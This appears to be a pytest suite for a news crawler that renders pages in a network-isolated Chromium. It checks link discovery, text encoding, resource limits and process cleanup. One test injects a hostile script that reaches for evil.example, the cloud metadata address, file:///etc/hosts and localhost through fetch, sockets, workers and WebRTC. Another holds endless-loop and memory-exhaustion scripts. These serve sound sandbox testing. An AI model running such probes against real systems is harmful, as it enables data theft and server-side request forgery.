"""Outlets whose links and texts only scripts bring, in a real Chromium that has no network but ours."""

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

from models.archive import open_archive
from spiders import browser
from tests.conftest import need
from tests.spiders.conftest import World, environment
from tests.spiders.hostile import HostileServer, http

pytestmark = pytest.mark.browser

SHELL = (
    b"<!doctype html><html><head><meta charset='utf-8'><title>All</title><link rel=stylesheet href=/style.css>"
    b"<script src=/app.js></script></head><body><ul id=list></ul><img src=/picture.jpg></body></html>"
)
APP = """
document.addEventListener('DOMContentLoaded', async () => {
  const articles = await (await fetch('/api/list.json')).json();
  setTimeout(() => { document.getElementById('list').innerHTML = articles.map(
    a => `<li><a class=story href="${a.url}">${a.title}</a> <time datetime="${a.at}">${a.at}</time></li>`).join('');
  }, 300);
});
"""
LIST = [{"url": f"/a/{n}", "title": f"می‌گویند {n}", "at": "2026-03-02T05:30:00Z"} for n in range(1, 4)]
PAGE = b"<!doctype html><html><body><p>" + b"News. " * 100 + b"</p></body></html>"
SOURCE = {"kind": "browser", "url": "https://news.test/all", "link": "a.story"}
SCRIPT = "text/javascript; charset=utf-8"


@pytest.fixture
def server(small_world: World) -> Iterator[HostileServer]:
    """A site with a list that a script makes, and three articles."""
    need(browser.missing() is None, "Chromium", "apt-get install chromium")
    with HostileServer() as running:
        running.pages["/news.test/all"] = http(SHELL, headers={"ETag": '"shell"', "Set-Cookie": "id=1"})
        running.pages["/news.test/app.js"] = http(APP.encode(), type=SCRIPT)
        running.pages["/news.test/api/list.json"] = http(json.dumps(LIST).encode(), type="application/json")
        for number in range(1, 4):
            running.pages[f"/news.test/a/{number}"] = http(PAGE)
        small_world.point_to(running.url)
        yield running


def test_links_that_a_script_makes(
    small_world: World, server: HostileServer, outlet_folder: Callable[..., Path]
) -> None:
    """I1, I8: listed with title and date under the outlet's own address; pictures and styles are not even asked for,
    and every request is ours: the honest user agent, no cookie, once. The shell stays the same, so it is not asked
    conditionally: what is new in the list is seen all the same."""
    folder = outlet_folder("news", sources=[SOURCE])
    result = small_world.crawl("news", KHABAR_OUTLETS_FOLDER=str(folder))
    assert (result.state, result.counts["new"], result.warnings) == ("ok", 3, [])
    assert sorted(server.asked) == [
        "/news.test/.well-known/tdmrep.json",
        "/news.test/a/1", "/news.test/a/2", "/news.test/a/3", "/news.test/all", "/news.test/api/list.json",
        "/news.test/app.js", "/news.test/robots.txt",
    ]  # fmt: skip
    assert result.report["requests"] == len(server.asked)
    for request in server.requests:
        assert b"User-Agent: Khabar/" in request
        assert b"Cookie:" not in request
        assert b"Sec-" not in request
    hints = {row["url"]: json.loads(row["hints"]) for row in small_world.rows("SELECT url, hints FROM discoveries")}
    assert hints["https://news.test/a/1"] == {"title": "می‌گویند 1", "published": "2026-03-02T05:30:00Z"}
    server.pages["/news.test/api/list.json"] = http(
        json.dumps([*LIST, {"url": "/a/4", "title": "4", "at": ""}]).encode(), type="application/json"
    )
    server.pages["/news.test/a/4"] = http(PAGE)
    assert small_world.crawl("news", KHABAR_OUTLETS_FOLDER=str(folder)).counts["new"] == 1


def test_texts_that_a_script_brings(
    small_world: World, server: HostileServer, outlet_folder: Callable[..., Path]
) -> None:
    """render: the archived page is what a reader would see, in UTF-8, whatever the shell's encoding."""
    shell = "<html><body><main></main><script>document.querySelector('main').textContent = 'Взрыв'</script></html>"
    server.pages["/news.test/a/1"] = http(shell.encode("cp1251"), type="text/html; charset=windows-1251")
    server.pages["/news.test/feed/"] = http(b"<rss><channel><item><link>/a/1</link></item></channel></rss>")
    folder = outlet_folder("news", render=True, selectors={"body": "main"})
    assert small_world.crawl("news", KHABAR_OUTLETS_FOLDER=str(folder)).state == "ok"
    body = open_archive(str(small_world.folder / "archive")).get(small_world.bodies()["news.test/a/1"])
    assert "<main>Взрыв</main>" in body.decode()


def test_no_way_around_the_guard(small_world: World, server: HostileServer, outlet_folder: Callable[..., Path]) -> None:
    """I7, I8: other hosts, private addresses, what robots.txt forbids, posts, sockets, frames, workers, other pages:
    the browser has no network, and our handler answers none of it. The list is read in spite of all."""
    port = server.port
    outside = [
        "https://evil.example/x.js", "http://news.test/x.js", "http://169.254.169.254/latest/", f"http://127.0.0.1:{port}/leak",
        "file:///etc/hosts", "https://news.test:22/x.js", "https://news.test/private/x.js", "https://news.test/away",
    ]  # fmt: skip
    attack = f"""
      const outside = {json.dumps(outside)};
      for (const url of outside) {{
        fetch(url).catch(() => 0);
        document.head.append(Object.assign(document.createElement('script'), {{src: url}}));
        document.head.append(Object.assign(document.createElement('iframe'), {{src: url}}));
        document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: url}}));
        try {{ new WebSocket(url.replace('http', 'ws')) }} catch {{}}
        try {{ new EventSource(url) }} catch {{}}
        try {{ window.open(url) }} catch {{}}
      }}
      fetch('/post', {{method: 'POST', body: 'x'}}).catch(() => 0);
      navigator.sendBeacon('/beacon', 'x');
      new Worker('/worker.js');
      navigator.serviceWorker?.register('/worker.js').catch(() => 0);
      alert('stop');
      const servers = [{{urls: 'stun:127.0.0.1:{port}'}}];
      try {{ new RTCPeerConnection({{iceServers: servers}}).createDataChannel('x') }} catch {{}}
    """
    server.pages["/news.test/app.js"] = http((attack + APP).encode(), type=SCRIPT)
    server.pages["/news.test/worker.js"] = http(b"fetch('https://evil.example/worker')", type=SCRIPT)
    server.pages["/news.test/away"] = http(status="302 Found", headers={"Location": "https://evil.example/y.js"})
    server.pages["/news.test/robots.txt"] = http(b"User-agent: *\nDisallow: /private/", type="text/plain")
    result = small_world.crawl("news", KHABAR_OUTLETS_FOLDER=str(outlet_folder("news", sources=[SOURCE])))
    assert (result.state, result.counts["new"]) == ("ok", 3)
    allowed = {f"/news.test/{path}" for path in (
        "all", "app.js", "api/list.json", "robots.txt", ".well-known/tdmrep.json", "a/1", "a/2", "a/3", "away",
        "worker.js",
    )}  # fmt: skip
    assert set(server.asked) <= allowed
    assert "Traceback" not in small_world.log.read_text()


BAD = {
    "endless": ("for (;;) {}", {"refused:scripts"}),
    "memory": ("const all = []; for (;;) all.push(new Uint8Array(1e8).fill(1));", {"refused:scripts", "pending"}),
    "text": ("const t = 'x'.repeat(1e6); for (let i = 0; i < 18; i++) document.body.append(t);",
             {"refused:too_large", "refused:scripts"}),
    "away": ("location.href = 'https://evil.example/'", {"refused:scripts", "pending"}),
    "good": ("document.body.id = 'ran'", {"pending"}),
}  # fmt: skip
"""Scripts, and what may become of their pages: how far the browser comes depends on how busy the machine is."""


def test_pages_that_do_not_end(small_world: World, server: HostileServer, outlet_folder: Callable[..., Path]) -> None:
    """I7: a page without end costs its time and no more, one that grows without end its memory; each has its name, the
    next page is shown as ever, and nothing of the browser is left."""
    for name, (script, _) in BAD.items():
        server.pages[f"/news.test/a/{name}"] = http(f"<body>x<script>{script}</script></body>".encode())
    items = "".join(f"<item><link>/a/{name}</link></item>" for name in BAD)
    server.pages["/news.test/feed/"] = http(f"<rss><channel>{items}</channel></rss>".encode())
    folder = outlet_folder("news", render=True)
    options = {"KHABAR_RENDER_SECONDS": "8", "CONCURRENT_REQUESTS_PER_DOMAIN": "1"}
    small_world.crawl("news", KHABAR_OUTLETS_FOLDER=str(folder), **options)
    outcomes = {key.rpartition("/")[2]: outcome for key, (_, outcome) in small_world.ledger().items()}
    assert not [(name, outcomes[name]) for name, (_, allowed) in BAD.items() if outcomes[name] not in allowed]
    archive = open_archive(str(small_world.folder / "archive"))
    assert b'<body id="ran">' in archive.get(small_world.bodies()["news.test/a/good"])
    assert "Traceback" not in small_world.log.read_text()
    assert chromiums() == set()
    assert not [path for path in server.asked if "evil" in path]


def chromiums() -> set[int]:
    """Processes of Chromium that descend from this one or were left to init by what did."""
    found = set()
    for process in psutil.process_iter(["pid", "name", "environ"]):
        environ: dict[str, Any] = process.info["environ"] or {}
        if "chrom" in (process.info["name"] or "") and environ.get("KHABAR_VAR") == os.environ["KHABAR_VAR"]:
            found.add(process.info["pid"])
    return found


def test_chromium_dies_with_the_crawl(
    small_world: World, server: HostileServer, outlet_folder: Callable[..., Path]
) -> None:
    """I7: each of its processes has its limit of memory, and kill -9 of the crawl while a page is being shown leaves
    none of them behind."""
    server.pages["/news.test/all"] = http(b"<body><script>for (;;) {}</script></body>")
    folder = outlet_folder("news", sources=[SOURCE])
    command = [sys.executable, "-m", "scrapy", "crawl", "news", "-s", f"KHABAR_OUTLETS_FOLDER={folder}"]
    with small_world.log.open("w") as log:
        child = subprocess.Popen(
            command, env={**environment(), "SCRAPY_SETTINGS_MODULE": "spiders.settings"}, stdout=log, stderr=log
        )
    wait_until(lambda: len(chromiums()) > 2)
    limits = {psutil.Process(pid).rlimit(psutil.RLIMIT_DATA)[0] for pid in chromiums()}
    assert max(limits) == browser.MOST_MEMORY
    child.send_signal(signal.SIGKILL)
    child.wait()
    wait_until(lambda: chromiums() == set())


def wait_until(true: Callable[[], bool]) -> None:
    """Ask until it is, for a minute."""
    for _ in range(600):
        if true():
            return
        time.sleep(0.1)
    raise AssertionError("it did not come to be")


def test_without_chromium_the_crawl_says_what_is_missing(
    small_world: World, outlet_folder: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """One sentence and exit 3, before anything is asked; other outlets do not mind."""
    small_world.point_to("http://127.0.0.1:9")
    monkeypatch.setenv("KHABAR_CHROMIUM", "/nowhere/chromium")
    folder = outlet_folder("news", sources=[SOURCE])
    result = small_world.crawl("news", KHABAR_OUTLETS_FOLDER=str(folder))
    assert (result.state, result.exit_code) == ("failed", 3)
    assert result.reason == (
        "news: a browser is needed, and Chromium is not found: apt-get install chromium, or set KHABAR_CHROMIUM"
    )
    assert "Traceback" not in small_world.log.read_text()
    monkeypatch.setattr(browser, "find_spec", lambda name: None)
    assert browser.missing() == (
        "a browser is needed, and scrapy-playwright is not installed: pip install 'khabar[browser]'"
    )
